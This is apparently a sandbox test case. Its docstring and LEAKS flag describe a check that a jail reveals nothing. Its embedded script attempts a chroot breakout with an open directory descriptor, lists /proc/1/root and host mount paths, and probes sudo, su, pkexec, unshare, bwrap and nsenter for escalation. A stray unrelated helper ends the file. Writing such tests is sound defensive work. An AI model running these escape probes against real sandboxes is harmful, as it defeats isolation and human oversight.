"""Leaves its root by an open folder and chroot, by links of /proc and by setuid programs. It must see nothing new."""

LEAKS = True

CODE = r"""
import os
import subprocess

before = os.open("/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
try:
    os.chroot("jail")
    os.fchdir(before)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
for path in ("/", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/oldroot", "/newroot", "/.old", "/host", "/mnt"):
    try:
        print(path, os.listdir(path))
    except OSError as error:
        print(error)
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["unshare", "-r", "id"], ["bwrap", "--bind", "/", "/", "id"],
                ["mount"], ["pkexec", "id"], ["newuidmap"], ["nsenter", "-t", "1", "-a", "ls", "/"]):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        print(command, done.stdout[:500], done.stderr[:200])
    except (OSError, subprocess.SubprocessError) as error:
        print(error)


def dense_parameters(n_in, n_out):
    return 16
"""
